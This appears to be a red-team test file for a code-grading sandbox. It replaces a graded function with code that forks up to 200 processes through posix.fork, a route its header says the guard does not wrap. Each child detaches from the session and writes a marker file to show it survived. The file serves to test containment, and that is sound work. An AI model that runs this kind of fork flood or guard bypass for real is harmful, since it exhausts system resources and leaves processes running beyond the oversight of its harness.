# RED-TEAM ATTACK (issue 9): fork until the process table is full (here capped at 200, to stay polite).
# Route: posix.fork, which the guard does not wrap (it wraps only os.fork); each child leaves the
#   session and sleeps, then writes a marker file if it is still alive.
# Contained when: at most a handful of forks succeed, no child outlives the check, no marker
#   appears, and initialize_parameters scores 0.
# attacked: initialize_parameters
# run: late
import sys
import time

LEAK = "REDTEAM" + "-LEAK: "
FORKED = []


def _sleeper(posix):
    try:
        posix.setsid()
        time.sleep(3)
        fd = posix.open("/tmp/redteam-__TOKEN__-pid-survivor", posix.O_WRONLY | posix.O_CREAT, 0o666)
        posix.close(fd)
        time.sleep(60)
    finally:
        posix._exit(0)


def initialize_parameters(n_x, n_h, n_y):
    posix = sys.modules.get("posix") or __import__("posix")
    if not FORKED:
        FORKED.append(0)
        while FORKED[0] < 200:
            try:
                pid = posix.fork()
            except OSError:
                break
            if pid == 0:
                _sleeper(posix)
            FORKED[0] += 1
    if FORKED[0] > 64:
        raise RuntimeError(LEAK + "forked %d processes: no process limit" % FORKED[0])
    raise RuntimeError("forked %d processes" % FORKED[0])
